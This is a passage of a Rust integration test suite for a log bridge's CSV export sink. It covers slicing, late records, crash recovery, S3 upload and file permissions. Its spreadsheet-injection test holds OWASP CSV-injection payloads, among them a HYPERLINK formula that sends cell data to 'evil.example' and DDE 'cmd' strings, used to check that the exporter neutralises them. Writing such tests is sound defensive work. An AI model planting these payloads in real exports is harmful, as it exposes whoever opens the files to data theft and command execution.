//! The `[export]` sink against the real binary: CSV slice files in the
//! hosted Call Log Export's shape (columns, order, RFC 4180 quoting),
//! published `close_after_secs` after their slice (or first record, for a
//! slice already over), late files for records of published slices,
//! nothing lost or doubled across SIGTERM and `kill -9` in the middle of a
//! slice, the figures in `/status` and `/metrics`, uploads to a real
//! S3-compatible server (s3s-fs) through an outage, and config mistakes
//! refused with exit 64 naming the key.

use std::collections::HashMap;
use std::fs::{self, OpenOptions};
use std::io::{Read, Write};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use crate::safety::http_get;
use crate::support;
use crate::support_tools::{tool, S3sFs, Tool};

/// How long anything here may take.
const DEADLINE: Duration = Duration::from_secs(60);

/// The hosted export's 35 columns in their "natural" order (FORMATS.md,
/// "ECLE natural column order").
const COLUMNS: [&str; 35] = [
    "request_host_name",
    "src_ip",
    "request_uuid",
    "http_method",
    "uri",
    "http_version",
    "bytes",
    "http_status_code",
    "referrer",
    "user_agent",
    "request_id",
    "request_time",
    "api_key",
    "service_id",
    "traffic_manager",
    "api_method_name",
    "cache_hit",
    "traffic_manager_error_code",
    "total_request_exec_time",
    "remote_total_time",
    "connect_time",
    "pre_transfer_time",
    "oauth_access_token",
    "ssl_enabled",
    "quota_value",
    "qps_throttle_value",
    "client_transfer_time",
    "service_name",
    "response_string",
    "plan_name",
    "plan_uuid",
    "endpoint_name",
    "package_name",
    "package_uuid",
    "service_definition_endpoint_uuid",
];

/// A value with a comma, quotes, a newline and a carriage return: what
/// RFC 4180 quoting must carry.
const USER_AGENT: &str = "Mozilla/5.0 (\"quoted\", with comma)\r\nsecond line";

/// A raw Local Edition JSON line for `uuid` at `request_time` `iso`.
fn line(uuid: &str, iso: &str) -> String {
    let v = serde_json::json!({
        "request_uuid": uuid,
        "request_time": iso,
        "api_key": "k1",
        "method": "GET",
        "uri": format!("/v1/items?id={uuid}&a=1,2"),
        "status": "200",
        "bytes": "113",
        "exec_time": "0.012",
        "user_agent": USER_AGENT,
    });
    format!("{v}\n")
}

/// `n` uuids `prefix-i` at `iso`.
fn batch(prefix: &str, n: usize, iso: &str) -> Vec<(String, String)> {
    (0..n).map(|i| (format!("{prefix}-{i:05}"), iso.to_string())).collect()
}

/// A scratch bridge with one file source and `[export]`.
struct Ex {
    dir: tempfile::TempDir,
    state: PathBuf,
    export: PathBuf,
    config: PathBuf,
    log: PathBuf,
    child: Option<Child>,
}

impl Ex {
    /// `export_extra` goes into `[export]` (and may open `[export.s3]`).
    fn new(export_extra: &str) -> Ex {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join("logs")).unwrap();
        let ex = Ex {
            state: dir.path().join("state"),
            export: dir.path().join("export"),
            config: dir.path().join("bridge.toml"),
            log: dir.path().join("bridge.log"),
            dir,
            child: None,
        };
        ex.configure(export_extra);
        ex
    }

    fn configure(&self, export_extra: &str) {
        // The records here are of fixed dates: within the window whenever
        // the tests run, unless a test sets its own.
        let window = if export_extra.contains("max_past_hours") { "" } else { "max_past_hours = 87600\n" };
        let text = format!(
            "state_dir = {state:?}\nlog_level = \"debug\"\n\n[[source]]\npaths = [{glob:?}]\nformat = \"le-json\"\nrescan_interval_ms = 200\n\n[status]\nlisten = \"127.0.0.1:0\"\n\n[export]\ndir = \"export\"\nslice_minutes = 1\nfsync_interval_ms = 20\n{window}{export_extra}\n",
            state = self.state.to_string_lossy(),
            glob = self.dir.path().join("logs/access*.log").to_string_lossy(),
        );
        fs::write(&self.config, text).unwrap();
    }

    fn append(&self, records: &[(String, String)]) {
        let text: String = records.iter().map(|(u, t)| line(u, t)).collect();
        let mut f = OpenOptions::new().create(true).append(true).open(self.dir.path().join("logs/access.log")).unwrap();
        f.write_all(text.as_bytes()).unwrap();
    }

    fn log_text(&self) -> String {
        fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn start(&mut self) {
        assert!(self.child.is_none(), "already running");
        let _ = fs::remove_file(self.state.join("status.addr"));
        let running = |s: &str| s.matches("bridge running").count();
        let before = running(&self.log_text());
        self.child = Some(support::spawn_bridge(&self.config, &self.log));
        support::poll_until(DEADLINE, "the bridge to start", || {
            if let Some(Ok(Some(status))) = self.child.as_mut().map(|c| c.try_wait()) {
                panic!("the bridge exited with {status}:\n{}", self.log_text());
            }
            (running(&self.log_text()) > before).then_some(())
        });
    }

    fn stop(&mut self) {
        let mut child = self.child.take().expect("running");
        let status = support::terminate(&mut child, DEADLINE);
        assert!(status.success(), "bridge exited with {status}; log:\n{}", self.log_text());
    }

    fn kill9(&mut self) {
        let mut child = self.child.take().expect("running");
        child.kill().unwrap();
        child.wait().unwrap();
    }

    fn status_addr(&self) -> String {
        support::poll_until(DEADLINE, "status.addr", || fs::read_to_string(self.state.join("status.addr")).ok()).trim().to_string()
    }

    /// `/status` as JSON.
    fn status(&self) -> serde_json::Value {
        let (code, body) = http_get(&self.status_addr(), "/status");
        assert_eq!(code, 200, "{body}");
        serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body}"))
    }

    /// A figure of the `export` section of `/status`.
    fn figure(&self, name: &str) -> serde_json::Value {
        self.status()["export"][name].clone()
    }

    /// Published file names (no `.partial`, no hidden files), sorted.
    fn published(&self) -> Vec<String> {
        let mut names: Vec<String> = match fs::read_dir(&self.export) {
            Ok(d) => d.filter_map(Result::ok).map(|e| e.file_name().to_string_lossy().into_owned()).collect(),
            Err(_) => Vec::new(),
        };
        names.retain(|n| n.starts_with("calllog-") && !n.ends_with(".partial"));
        names.sort();
        names
    }

    /// Files still being written.
    fn partial(&self) -> Vec<String> {
        let mut names: Vec<String> = match fs::read_dir(&self.export) {
            Ok(d) => d.filter_map(Result::ok).map(|e| e.file_name().to_string_lossy().into_owned()).collect(),
            Err(_) => Vec::new(),
        };
        names.retain(|n| n.ends_with(".partial"));
        names.sort();
        names
    }

    fn wait_published(&self, want: &[&str]) {
        support::poll_until(DEADLINE, &format!("{want:?} published"), || {
            let got = self.published();
            want.iter().all(|w| got.iter().any(|g| g == w)).then_some(())
        });
    }

    /// Every uuid in the published files: uuid -> files it is in.
    fn uuids(&self) -> HashMap<String, Vec<String>> {
        let mut out: HashMap<String, Vec<String>> = HashMap::new();
        for name in self.published() {
            let rows = read_csv(&self.export.join(&name));
            for row in &rows[1..] {
                out.entry(row[2].clone()).or_default().push(name.clone());
            }
        }
        out
    }
}

impl Drop for Ex {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// A gzipped CSV file's rows, read by an RFC 4180 reader written here
/// (not the bridge's): quoted fields may hold commas, `""` and line
/// breaks; records end with CRLF.
fn read_csv(path: &Path) -> Vec<Vec<String>> {
    let mut text = String::new();
    flate2::read::MultiGzDecoder::new(fs::File::open(path).unwrap()).read_to_string(&mut text).unwrap();
    parse_csv(&text)
}

fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut field) = (Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => {
                assert!(c != '\n' && c != '"', "a bare {c:?} outside quotes (not RFC 4180): {text:?}");
                field.push(c)
            }
        }
    }
    assert!(!quoted && field.is_empty() && row.is_empty(), "the file ends inside a record");
    rows
}

/// Checks a file's header and that every row carries the values its line had.
fn check_rows(path: &Path) -> Vec<String> {
    let rows = read_csv(path);
    assert_eq!(rows[0], COLUMNS, "the header row: the export's columns in its order");
    let mut ids = Vec::new();
    for row in &rows[1..] {
        assert_eq!(row.len(), 35, "{row:?}");
        let uuid = &row[2];
        assert_eq!(row[3], "GET");
        assert_eq!(row[4], format!("/v1/items?id={uuid}&a=1,2"));
        assert_eq!(row[9], USER_AGENT, "quotes, comma and line breaks survive");
        assert_eq!(row[12], "k1");
        assert!(row[11].starts_with("2026-11-29T1") && row[11].ends_with('Z'), "{row:?}");
        ids.push(uuid.clone());
    }
    ids
}

/// Python's `csv` module (a standard reader) reads every file: 35
/// columns per row, the quoted value intact, the same number of rows.
fn python_reads_the_same(files: &[PathBuf]) {
    let Some(python) = tool(Tool::Python, "export: python csv reader") else { return };
    let script = "import csv, gzip, os, sys\nua = os.environ['UA']\nfor p in sys.argv[1:]:\n    with gzip.open(p, 'rt', newline='') as f:\n        rows = list(csv.reader(f))\n    assert rows[0][2] == 'request_uuid', p\n    assert all(len(r) == 35 for r in rows), p\n    assert all(r[9] == ua for r in rows[1:]), p\n    print(len(rows) - 1)\n";
    let out = std::process::Command::new(python).arg("-c").arg(script).args(files).env("UA", USER_AGENT).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let counts: Vec<usize> = String::from_utf8_lossy(&out.stdout).lines().map(|l| l.parse().unwrap()).collect();
    let ours: Vec<usize> = files.iter().map(|f| read_csv(f).len() - 1).collect();
    assert_eq!(counts, ours);
}

#[test]
fn records_over_three_slices_with_late_ones_make_three_slice_files_and_numbered_late_files() {
    let mut ex = Ex::new("close_after_secs = 2\n");
    let a = batch("a", 40, "2026-11-29T10:00:05Z");
    let b = batch("b", 30, "2026-11-29T10:01:59Z");
    let c = batch("c", 20, "2026-11-29T10:02:00Z");
    ex.start();
    ex.append(&[a.clone(), b.clone(), c.clone()].concat());
    // Written, not yet published: the slices ended long ago, so each stays
    // open close_after_secs past its first record.
    support::poll_until(DEADLINE, "three open slice files", || (ex.partial().len() == 3).then_some(()));
    let opened = Instant::now();
    assert!(ex.published().is_empty(), "published before close_after_secs: {:?}", ex.published());
    let main = ["calllog-2026-11-29T10-00Z.csv.gz", "calllog-2026-11-29T10-01Z.csv.gz", "calllog-2026-11-29T10-02Z.csv.gz"];
    ex.wait_published(&main);
    assert!(opened.elapsed() >= Duration::from_millis(1500), "published {:?} after the files appeared", opened.elapsed());
    assert!(ex.partial().is_empty());

    // Late records for two published slices: late files, never the
    // published file again.
    let a_late = batch("a-late", 5, "2026-11-29T10:00:59Z");
    let c_late = batch("c-late", 3, "2026-11-29T10:02:30Z");
    let before: Vec<Vec<u8>> = main.iter().map(|m| fs::read(ex.export.join(m)).unwrap()).collect();
    ex.append(&[a_late.clone(), c_late.clone()].concat());
    ex.wait_published(&["calllog-2026-11-29T10-00Z.late-1.csv.gz", "calllog-2026-11-29T10-02Z.late-1.csv.gz"]);
    let a_later = batch("a-later", 2, "2026-11-29T10:00:00Z");
    ex.append(&a_later);
    ex.wait_published(&["calllog-2026-11-29T10-00Z.late-2.csv.gz"]);
    let after: Vec<Vec<u8>> = main.iter().map(|m| fs::read(ex.export.join(m)).unwrap()).collect();
    assert_eq!(before, after, "a published file is never written again");

    assert_eq!(
        ex.published(),
        [
            "calllog-2026-11-29T10-00Z.csv.gz",
            "calllog-2026-11-29T10-00Z.late-1.csv.gz",
            "calllog-2026-11-29T10-00Z.late-2.csv.gz",
            "calllog-2026-11-29T10-01Z.csv.gz",
            "calllog-2026-11-29T10-02Z.csv.gz",
            "calllog-2026-11-29T10-02Z.late-1.csv.gz",
        ],
        "a sorted listing is chronological"
    );
    let ids = |v: &[(String, String)]| v.iter().map(|(u, _)| u.clone()).collect::<Vec<_>>();
    let file = |n: &str| check_rows(&ex.export.join(n));
    assert_eq!(file("calllog-2026-11-29T10-00Z.csv.gz"), ids(&a), "in arrival order");
    assert_eq!(file("calllog-2026-11-29T10-01Z.csv.gz"), ids(&b));
    assert_eq!(file("calllog-2026-11-29T10-02Z.csv.gz"), ids(&c));
    assert_eq!(file("calllog-2026-11-29T10-00Z.late-1.csv.gz"), ids(&a_late));
    assert_eq!(file("calllog-2026-11-29T10-00Z.late-2.csv.gz"), ids(&a_later));
    assert_eq!(file("calllog-2026-11-29T10-02Z.late-1.csv.gz"), ids(&c_late));
    let all = ex.uuids();
    assert_eq!(all.len(), 40 + 30 + 20 + 5 + 3 + 2);
    assert!(all.values().all(|f| f.len() == 1), "every request_uuid exactly once");
    python_reads_the_same(&ex.published().iter().map(|n| ex.export.join(n)).collect::<Vec<_>>());

    // The figures, per slice and in total, in /status and /metrics.
    let s = ex.status();
    let e = &s["export"];
    assert_eq!(e["records"], 100, "{e}");
    assert_eq!(e["late_records"], 10, "{e}");
    assert_eq!(e["late_files"], 3, "{e}");
    assert_eq!(e["files_published"], 6, "{e}");
    assert_eq!(e["open_files"], 0, "{e}");
    let ten = "2026-11-29T10:00:00Z";
    assert_eq!(e["slice_records"][ten], 40, "{e}");
    assert_eq!(e["slice_late_records"][ten], 7, "{e}");
    assert_eq!(e["slice_late_files"][ten], 2, "{e}");
    assert_eq!(e["slice_open"][ten], 0, "{e}");
    assert!(e["slice_closed_at_seconds"][ten].as_i64().unwrap() > 1_700_000_000, "{e}");
    assert!(e["slice_worst_sync_delay_ms"][ten].as_i64().unwrap() > 0, "the records are from the past: {e}");
    let (code, metrics) = http_get(&ex.status_addr(), "/metrics");
    assert_eq!(code, 200);
    for want in [
        "calllog_bridge_export_records_total 100",
        "calllog_bridge_export_late_files_total 3",
        "calllog_bridge_export_slice_late_records{slice=\"2026-11-29T10:00:00Z\"} 7",
        "calllog_bridge_export_slice_records{slice=\"2026-11-29T10:02:00Z\"} 20",
    ] {
        assert!(metrics.contains(want), "{want} missing from:\n{metrics}");
    }
    ex.stop();
}

#[test]
fn nothing_is_lost_or_doubled_across_sigterm_and_kill_9_in_the_middle_of_slices() {
    // Slices stay open (an hour) while the bridge is stopped twice.
    let mut ex = Ex::new("close_after_secs = 3600\n");
    let slices = ["2026-11-29T10:00:10Z", "2026-11-29T10:01:10Z", "2026-11-29T10:02:10Z"];
    let mut all = Vec::new();
    let mut round = |ex: &mut Ex, name: &str, stop: &dyn Fn(&mut Ex)| {
        let recs: Vec<(String, String)> = (0..6000).map(|i| (format!("{name}-{i:05}"), slices[i % slices.len()].to_string())).collect();
        ex.start();
        ex.append(&recs);
        all.extend(recs.into_iter().map(|(u, _)| u));
        // Stop while records flow: some synced, some read but not yet.
        support::poll_until(DEADLINE, "the first records synced", || (ex.figure("records").as_u64() > Some(0)).then_some(()));
        stop(ex);
        assert_eq!(ex.published(), Vec::<String>::new(), "open slices are not published by a stop");
    };
    round(&mut ex, "kill", &|ex| ex.kill9());
    round(&mut ex, "term", &|ex| ex.stop());
    round(&mut ex, "kill2", &|ex| ex.kill9());
    // Now close the slices soon: the files left open are taken up, the
    // records read again are skipped, the files published.
    ex.configure("close_after_secs = 1\n");
    ex.start();
    support::poll_until(DEADLINE, "every record in a published file", || (ex.uuids().len() == all.len()).then_some(()));
    support::poll_until(DEADLINE, "no open file", || ex.partial().is_empty().then_some(()));
    let got = ex.uuids();
    let doubled: Vec<_> = got.iter().filter(|(_, f)| f.len() != 1).take(5).collect();
    assert!(doubled.is_empty(), "records in more than one place: {doubled:?}");
    assert!(all.iter().all(|u| got.contains_key(u)));
    for n in ex.published() {
        check_rows(&ex.export.join(n));
    }
    let log = ex.log_text();
    assert!(log.contains("took up the slice files an earlier run left open"), "{log}");
    ex.stop();
}

#[test]
fn published_files_are_uploaded_to_s3_through_an_outage_and_a_restart() {
    let Some(mut s3) = S3sFs::start("calllog", "export::published_files_are_uploaded_to_s3_through_an_outage_and_a_restart") else {
        return;
    };
    let mut ex = Ex::new("");
    let (ak, sk) = s3.credential_files(ex.dir.path());
    let endpoint = s3.endpoint();
    let extra = |keep: bool| {
        format!(
            "close_after_secs = 1\n\n[export.s3]\nbucket = \"calllog\"\nprefix = \"le/export\"\nendpoint = {:?}\naccess_key_id_file = {:?}\nsecret_access_key_file = {:?}\nkeep_local = {keep}\nrequest_timeout_ms = 3000\nmax_backoff_ms = 1000\n",
            endpoint,
            ak.to_string_lossy(),
            sk.to_string_lossy()
        )
    };
    ex.configure(&extra(true));
    ex.start();
    let a = batch("a", 50, "2026-11-29T10:00:05Z");
    ex.append(&a);
    let first = "calllog-2026-11-29T10-00Z.csv.gz";
    ex.wait_published(&[first]);
    let object = s3.object("calllog", &format!("le/export/{first}"));
    support::poll_until(DEADLINE, "the upload", || object.exists().then_some(()));
    support::poll_until(DEADLINE, "the upload counted", || (ex.figure("files_uploaded") == 1).then_some(()));
    assert_eq!(fs::read(&object).unwrap(), fs::read(ex.export.join(first)).unwrap(), "the object is the file");

    // The store goes down: files are published and kept, uploads retried.
    s3.stop();
    let b = batch("b", 30, "2026-11-29T10:01:05Z");
    ex.append(&b);
    let second = "calllog-2026-11-29T10-01Z.csv.gz";
    ex.wait_published(&[second]);
    support::poll_until(DEADLINE, "upload failures retried", || (ex.figure("upload_failures").as_u64() >= Some(2)).then_some(()));
    assert_eq!(ex.figure("uploads_pending"), 1);
    assert!(ex.log_text().contains("export: upload failed; the file stays on disk and is tried again"));
    // Stopped during the outage: the next start uploads what waits.
    ex.stop();
    ex.configure(&extra(false));
    s3.restart();
    ex.start();
    let object2 = s3.object("calllog", &format!("le/export/{second}"));
    support::poll_until(DEADLINE, "the waiting file uploaded after the restart", || object2.exists().then_some(()));
    assert_eq!(check_rows(&object2), b.iter().map(|(u, _)| u.clone()).collect::<Vec<_>>());
    // keep_local = false: the local copy goes once the object is stored.
    support::poll_until(DEADLINE, "the local copy removed", || (!ex.export.join(second).exists()).then_some(()));
    assert!(ex.export.join(first).exists(), "uploaded under keep_local = true: kept");
    let markers = fs::read_dir(ex.export.join(".upload-pending")).map(|d| d.count()).unwrap_or(0);
    assert_eq!(markers, 0, "nothing left waiting");
    ex.stop();
}

#[test]
fn export_config_mistakes_exit_64_naming_the_key() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("ak"), "AK\n").unwrap();
    fs::write(dir.path().join("sk"), "SK\n").unwrap();
    fs::write(dir.path().join("a-file"), "").unwrap();
    let s3 = "[export.s3]\nbucket = \"calllog\"\naccess_key_id_file = \"ak\"\nsecret_access_key_file = \"sk\"\n";
    let cases = [
        ("dir = \"export\"\nslice_minutes = 45\n".to_string(), "export.slice_minutes"),
        ("dir = \"export\"\ngzip_level = 12\n".to_string(), "export.gzip_level"),
        ("dir = \"a-file\"\n".to_string(), "export.dir"),
        (format!("dir = \"export\"\n{}", s3.replace("calllog", "Bad_Bucket")), "export.s3.bucket"),
        (format!("dir = \"export\"\n{}", s3.replace("\"sk\"", "\"missing\"")), "export.s3.secret_access_key_file"),
        (format!("dir = \"export\"\n{s3}endpoint = \"ftp://store\"\n"), "export.s3.endpoint"),
    ];
    for (section, key) in cases {
        let config = dir.path().join("bridge.toml");
        let text = format!(
            "state_dir = {:?}\n\n[[source]]\npaths = [{:?}]\nformat = \"le-json\"\n\n[export]\n{section}",
            dir.path().join("state").to_string_lossy(),
            dir.path().join("logs/*.log").to_string_lossy()
        );
        fs::write(&config, text).unwrap();
        for cmd in ["check-config", "run"] {
            let mut c = support::cmd();
            c.args([cmd, "--config"]).arg(&config);
            let out = support::run_for(&mut c, Duration::from_secs(20)).unwrap_or_else(|| panic!("{cmd} did not exit"));
            let err = String::from_utf8_lossy(&out.stderr);
            assert_eq!(out.status.code(), Some(64), "{cmd} with {section:?}: {err}");
            assert!(err.contains(key), "{cmd} names {key}: {err}");
        }
    }
}

#[test]
fn the_export_command_builds_the_same_slices_offline_from_raw_logs_or_the_archive() {
    let dir = tempfile::tempdir().unwrap();
    let raw = dir.path().join("access.log");
    let recs = [
        batch("early", 3, "2026-11-29T09:59:59Z"),
        batch("a", 20, "2026-11-29T10:00:00Z"),
        batch("b", 10, "2026-11-29T10:45:00Z"),
        batch("late", 2, "2026-11-29T11:00:00Z"),
    ]
    .concat();
    // One record twice (an at-least-once archive holds repeats).
    let mut text: String = recs.iter().map(|(u, t)| line(u, t)).collect();
    text.push_str(&line("a-00003", "2026-11-29T10:00:00Z"));
    fs::write(&raw, text).unwrap();
    // The archive's shape: what `parse` (and `[file_output]`) write.
    let out = support::run(&["parse", raw.to_str().unwrap()]);
    assert!(out.status.success());
    let archive = dir.path().join("archive.ndjson");
    fs::write(&archive, &out.stdout).unwrap();

    let export = |input: &Path, to: &Path, extra: &[&str]| {
        let mut c = support::cmd();
        c.args(["export", "--from", "2026-11-29T10:00:00Z", "--to", "2026-11-29T11:00:00Z", "--dir"]).arg(to).args(extra).arg(input);
        c.output().unwrap()
    };
    for (input, to) in [(&raw, dir.path().join("from-raw")), (&archive, dir.path().join("from-archive"))] {
        let out = export(input, &to, &[]);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let mut names: Vec<String> = fs::read_dir(&to).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
        names.sort();
        assert_eq!(names, ["calllog-2026-11-29T10-00Z.csv.gz", "calllog-2026-11-29T10-30Z.csv.gz"]);
        let a = check_rows(&to.join(&names[0]));
        assert_eq!(a, batch("a", 20, "").into_iter().map(|(u, _)| u).collect::<Vec<_>>(), "the range only, each record once");
        assert_eq!(check_rows(&to.join(&names[1])).len(), 10);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("5 outside the range, 1 repeated"), "{err}");
    }
    let rows = |d: &str| {
        let d = dir.path().join(d);
        read_csv(&d.join("calllog-2026-11-29T10-00Z.csv.gz"))
    };
    assert_eq!(rows("from-raw"), rows("from-archive"), "the archive gives the same rows as the raw logs");

    // Again over the same range: refused unless --replace; bad arguments exit 64.
    let again = export(&raw, &dir.path().join("from-raw"), &[]);
    assert_eq!(again.status.code(), Some(1), "{}", String::from_utf8_lossy(&again.stderr));
    assert!(export(&raw, &dir.path().join("from-raw"), &["--replace"]).status.success());
    let bad = export(&raw, &dir.path().join("x"), &["--slice-minutes", "45"]);
    assert_eq!(bad.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("--slice-minutes"));
}

/// Values an API caller controls that a spreadsheet would run as a
/// formula (OWASP's CSV injection payloads), by column index in the
/// export, with a numeric column's negative number and an absent value
/// that must stay as they are.
const FORMULAS: [(usize, &str, &str); 5] = [
    (9, "user_agent", "=HYPERLINK(\"http://evil.example/?\"&A1,\"help\")"),
    (8, "referrer", "+1+cmd|' /C calc'!A0"),
    (4, "uri", "-2+3+cmd|' /C calc'!A0?q=@SUM(1)"),
    (0, "request_host_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
    (12, "api_key", "\t=1+1"),
];

/// A raw line carrying the payloads of [`FORMULAS`] (and a carriage
/// return one), a negative `quota_value` and an absent `http_version`.
fn formula_line(uuid: &str, iso: &str) -> String {
    let mut v = serde_json::json!({
        "request_uuid": uuid,
        "request_time": iso,
        "method": "GET",
        "status": "200",
        "bytes": "113",
        "exec_time": "0.012",
        "quota_value": "-1",
        "http_version": "-",
        "oauth_access_token": "\r=2+2",
    });
    for (_, key, payload) in FORMULAS {
        v[key] = payload.into();
    }
    format!("{v}\n")
}

/// True when a spreadsheet would run `cell` as a formula.
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell != "-" && cell.parse::<f64>().is_err()
}

/// Checks the rows of an export file: with `neutralised`, every payload is
/// its value behind a `'` and no cell would run; without, the values are
/// as they came.
fn check_formula_rows(path: &Path, neutralised: bool) -> usize {
    let rows = read_csv(path);
    // Quoted on disk: a neutralised cell is written `"'=..."`.
    let mut raw = String::new();
    flate2::read::MultiGzDecoder::new(fs::File::open(path).unwrap()).read_to_string(&mut raw).unwrap();
    for row in &rows[1..] {
        for (i, key, payload) in FORMULAS {
            let want = if neutralised { format!("'{payload}") } else { payload.to_string() };
            assert_eq!(row[i], want, "{key} in {row:?}");
        }
        assert_eq!(row[22], if neutralised { "'\r=2+2" } else { "\r=2+2" }, "oauth_access_token (a carriage return)");
        assert_eq!(row[24], "-1", "a negative number in a numeric column stays a number");
        assert_eq!(row[5], "-", "`-` alone is the schema's absent value");
        assert_eq!(row[6], "113");
        let running: Vec<&String> = row.iter().filter(|c| runs_as_formula(c)).collect();
        if neutralised {
            assert!(running.is_empty(), "cells a spreadsheet would run: {running:?}");
        } else {
            assert_eq!(running.len(), FORMULAS.len() + 1, "{running:?}");
        }
    }
    if neutralised {
        assert!(raw.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"help\"\")\""), "quoted, quotes doubled: {raw}");
    }
    rows.len() - 1
}

#[test]
fn spreadsheet_formulas_in_caller_text_are_neutralised_live_and_offline() {
    // Live: the sink.
    let mut ex = Ex::new("close_after_secs = 1\n");
    ex.start();
    let text: String = (0..5).map(|i| formula_line(&format!("f-{i}"), "2026-11-29T10:00:05Z")).collect();
    let mut f = OpenOptions::new().create(true).append(true).open(ex.dir.path().join("logs/access.log")).unwrap();
    f.write_all(text.as_bytes()).unwrap();
    let name = "calllog-2026-11-29T10-00Z.csv.gz";
    ex.wait_published(&[name]);
    assert_eq!(check_formula_rows(&ex.export.join(name), true), 5);
    ex.stop();

    // Offline: the `export` command, by default and with the raw values
    // asked for.
    let input = ex.dir.path().join("logs/access.log");
    for (flags, neutralised) in [(&[][..], true), (&["--no-escape-formulas"][..], false)] {
        let to = ex.dir.path().join(format!("offline-{neutralised}"));
        let mut c = support::cmd();
        c.args(["export", "--from", "2026-11-29T10:00:00Z", "--to", "2026-11-29T11:00:00Z", "--dir"]).arg(&to).args(flags).arg(&input);
        let out = c.output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        assert_eq!(check_formula_rows(&to.join(name), neutralised), 5, "{flags:?}");
    }
}

/// A system group and a user in it, created for one test and removed when
/// dropped (the test runs as root).
struct Account {
    user: String,
    group: String,
}

impl Account {
    /// `groupadd` and `useradd` (no home, no login shell, in the group).
    fn create(tag: &str) -> Account {
        let id = std::process::id() % 100_000;
        let a = Account { user: format!("cb{tag}u{id}"), group: format!("cb{tag}g{id}") };
        let ok = |c: &mut std::process::Command| assert!(c.status().unwrap().success(), "{c:?}");
        ok(std::process::Command::new("groupadd").args(["--system", &a.group]));
        ok(std::process::Command::new("useradd").args(["--system", "-M", "-N", "-s", "/usr/sbin/nologin", "-G", &a.group, &a.user]));
        a
    }

    fn gid(&self) -> u32 {
        let out = std::process::Command::new("getent").args(["group", &self.group]).output().unwrap();
        String::from_utf8_lossy(&out.stdout).split(':').nth(2).unwrap().trim().parse().unwrap()
    }

    /// Runs `args` as the user, with its groups (`with_groups`) or none.
    fn run(&self, with_groups: bool, args: &[&str]) -> std::process::Output {
        let groups = if with_groups { "--init-groups" } else { "--clear-groups" };
        let mut c = std::process::Command::new("setpriv");
        c.args([&format!("--reuid={}", self.user), "--regid=65534", groups, "--"]).args(args);
        c.output().unwrap()
    }
}

impl Drop for Account {
    fn drop(&mut self) {
        let _ = std::process::Command::new("userdel").arg(&self.user).status();
        let _ = std::process::Command::new("groupdel").arg(&self.group).status();
    }
}

/// `calllog-bridge ARGS` as the service would run it: an unprivileged user
/// with no supplementary group, under the unit's `UMask=0077`.
fn as_service(args: &[&str]) -> std::process::Command {
    let mut c = std::process::Command::new("sh");
    c.args(["-c", "umask 077; exec \"$0\" \"$@\""]).arg(support::bin()).args(args).env_remove("RUST_LOG");
    support::unprivileged(&mut c);
    c
}

#[test]
fn an_account_in_the_export_group_reads_published_slices_and_others_do_not() {
    if !support::is_root() {
        eprintln!("SKIPPED: creating a user and a group needs root");
        return;
    }
    let analyst = Account::create("exp");
    let mut ex = Ex::new(&format!("close_after_secs = 1\nfile_mode = \"0640\"\ngroup = \"{}\"\n", analyst.group));
    fs::create_dir_all(&ex.state).unwrap();
    support::give_to_unprivileged(&ex.state);
    // The export directory as an earlier run under the unit left it: the
    // service's own, 0700.
    fs::create_dir_all(&ex.export).unwrap();
    support::give_to_unprivileged(&ex.export);
    fs::set_permissions(&ex.export, fs::Permissions::from_mode(0o700)).unwrap();
    let config = ex.config.to_str().unwrap().to_string();

    // The service cannot give its files the group (it is not a member):
    // refused before anything starts, naming the key and the fix.
    for cmd in ["check-config", "run"] {
        let out = support::run_for(&mut as_service(&[cmd, "--config", &config]), DEADLINE).expect("exits");
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(64), "{cmd}: {err}");
        assert!(err.contains("export.group") && err.contains("chmod 2750"), "{cmd}: {err}");
    }

    // The operator's step: the directory set-group-ID with the group.
    std::os::unix::fs::chown(&ex.export, None, Some(analyst.gid())).unwrap();
    fs::set_permissions(&ex.export, fs::Permissions::from_mode(0o2750)).unwrap();
    let log = fs::OpenOptions::new().create(true).append(true).open(&ex.log).unwrap();
    let child = as_service(&["run", "--config", &config]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(log).spawn().unwrap();
    ex.child = Some(child);
    support::poll_until(DEADLINE, "the bridge to start", || {
        if let Some(Ok(Some(status))) = ex.child.as_mut().map(|c| c.try_wait()) {
            panic!("the bridge exited with {status}:\n{}", ex.log_text());
        }
        ex.log_text().contains("bridge running").then_some(())
    });
    ex.append(&batch("g", 20, "2026-11-29T10:00:05Z"));
    let name = "calllog-2026-11-29T10-00Z.csv.gz";
    ex.wait_published(&[name]);
    let file = ex.export.join(name);
    let meta = fs::metadata(&file).unwrap();
    assert_eq!(meta.mode() & 0o7777, 0o640, "file_mode, whatever the umask");
    assert_eq!(meta.gid(), analyst.gid(), "the export group");
    assert_eq!(meta.uid(), support::UNPRIVILEGED_UID);

    // The analyst lists the directory and reads the slice.
